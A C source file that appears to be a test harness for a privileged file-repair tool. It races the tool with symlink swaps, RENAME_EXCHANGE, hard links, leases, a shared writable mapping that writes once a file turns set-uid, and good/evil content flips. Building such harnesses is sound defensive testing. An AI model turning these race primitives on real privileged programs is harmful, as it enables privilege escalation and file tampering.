/*
 * attacker.c - what an unprivileged user does to a file while it is being repaired, as fast as possible, until it is killed.
 *
 *	attacker exchange A B          exchanges two names (RENAME_EXCHANGE)
 *	attacker symlink NAME TARGET   moves NAME aside, puts a symlink to TARGET in its place, and back
 *	attacker link FILE NAME        gives FILE the further name NAME and takes it away
 *	attacker toggle FILE MODE      gives FILE, which is the user's, its old mode back
 *	attacker hold FILE             opens FILE for writing and keeps it open
 *	attacker lease FILE            keeps a lease on FILE, so that nobody can open it without waiting
 *	attacker map FILE              maps FILE shared and writable, closes it; writes to it once it is set-id
 *	attacker grab FILE             lets everybody write FILE; evil and good content in turn as soon as it belongs to root
 *	attacker flip FILE             writes good and evil content in turn
 *	attacker grow FILE             writes at its end, without end
 *	attacker blink FILE            exchanges FILE with FILE.evil by rename
 *
 * Prints a line when it is ready. What fails is tried again: the attack is lost, not the attacker.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char evil[] = "evil\n";
static const char good[] = "good\n";

static void ready(void)
{
	(void)puts("ready");
	(void)fflush(stdout);
}

static void wait_a_moment(void)
{
	const struct timespec moment = { 0, 200000 };

	(void)nanosleep(&moment, NULL);
}

static void write_file(const char *path, const char *text)
{
	int descriptor = open(path, O_WRONLY | O_CLOEXEC);

	if (descriptor < 0)
		return;
	if (pwrite(descriptor, text, strlen(text), 0) < 0)
		(void)fputs("cannot write\n", stderr);
	close(descriptor);
}

static void put_symlink(const char *name, const char *target)
{
	char aside[4096];

	(void)snprintf(aside, sizeof(aside), "%s.aside", name);
	if (rename(name, aside) == 0 && symlink(target, name) == 0)
		wait_a_moment();
	(void)rename(aside, name);
}

static void hold(const char *path, bool mapped)
{
	int descriptor = open(path, O_RDWR | O_CLOEXEC);
	struct stat st;
	char *content;

	if (descriptor < 0) {
		perror(path);
		exit(1);
	}
	content = mmap(NULL, sizeof(evil) - 1, PROT_READ | PROT_WRITE, MAP_SHARED, descriptor, 0);
	if (mapped)
		close(descriptor);
	ready();
	for (;;) {
		if (mapped && stat(path, &st) == 0 && (st.st_mode & S_ISUID) != 0)
			memcpy(content, evil, sizeof(evil) - 1);
		wait_a_moment();
	}
}

static void keep_lease(const char *path)
{
	int descriptor = open(path, O_RDWR | O_CLOEXEC);

	(void)signal(SIGIO, SIG_IGN);
	if (descriptor < 0 || fcntl(descriptor, F_SETLEASE, F_WRLCK) < 0) {
		perror(path);
		exit(1);
	}
	ready();
	for (;;) {
		(void)fcntl(descriptor, F_SETLEASE, F_WRLCK);
		wait_a_moment();
	}
}

static void grab(const char *path)
{
	int descriptor;
	struct stat st;
	bool grabbed = false;

	(void)chmod(path, 0777);
	descriptor = open(path, O_WRONLY | O_CLOEXEC);
	if (descriptor < 0)
		return;
	if (fstat(descriptor, &st) == 0 && st.st_uid == 0 && pwrite(descriptor, evil, sizeof(evil) - 1, 0) > 0)
		grabbed = true;
	close(descriptor);
	/* Not open, and good to look at, for moments. */
	if (grabbed) {
		wait_a_moment();
		write_file(path, good);
		wait_a_moment();
	}
}

/* Some 30 MB a second, up to 1 GiB. */
static void grow(const char *path)
{
	static const char zeros[65536];
	int descriptor = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	struct stat st;

	if (descriptor >= 0 && fstat(descriptor, &st) == 0 && st.st_size < (off_t)1 << 30 &&
	    write(descriptor, zeros, sizeof(zeros)) < 0)
		(void)fputs("cannot write\n", stderr);
	if (descriptor >= 0)
		close(descriptor);
	for (int i = 0; i < 8; i++)
		wait_a_moment();
}

static void attack(const char *verb, const char *name, const char *other)
{
	char beside[4096];

	if (strcmp(verb, "exchange") == 0) {
		(void)renameat2(AT_FDCWD, name, AT_FDCWD, other, RENAME_EXCHANGE);
	} else if (strcmp(verb, "symlink") == 0) {
		put_symlink(name, other);
	} else if (strcmp(verb, "link") == 0) {
		if (link(name, other) == 0)
			wait_a_moment();
		(void)unlink(other);
		wait_a_moment();
	} else if (strcmp(verb, "toggle") == 0) {
		(void)chmod(name, (mode_t)strtoul(other, NULL, 8));
	} else if (strcmp(verb, "grab") == 0) {
		grab(name);
	} else if (strcmp(verb, "flip") == 0) {
		write_file(name, good);
		write_file(name, evil);
	} else if (strcmp(verb, "grow") == 0) {
		grow(name);
	} else if (strcmp(verb, "blink") == 0) {
		(void)snprintf(beside, sizeof(beside), "%s.evil", name);
		(void)renameat2(AT_FDCWD, name, AT_FDCWD, beside, RENAME_EXCHANGE);
	} else {
		(void)fprintf(stderr, "attacker: no verb %s\n", verb);
		exit(1);
	}
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	/* Not to be forgotten by a test that is killed. */
	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (strcmp(argv[1], "hold") == 0 || strcmp(argv[1], "map") == 0)
		hold(argv[2], strcmp(argv[1], "map") == 0);
	if (strcmp(argv[1], "lease") == 0)
		keep_lease(argv[2]);
	ready();
	for (;;)
		attack(argv[1], argv[2], argc > 3 ? argv[3] : "");
}
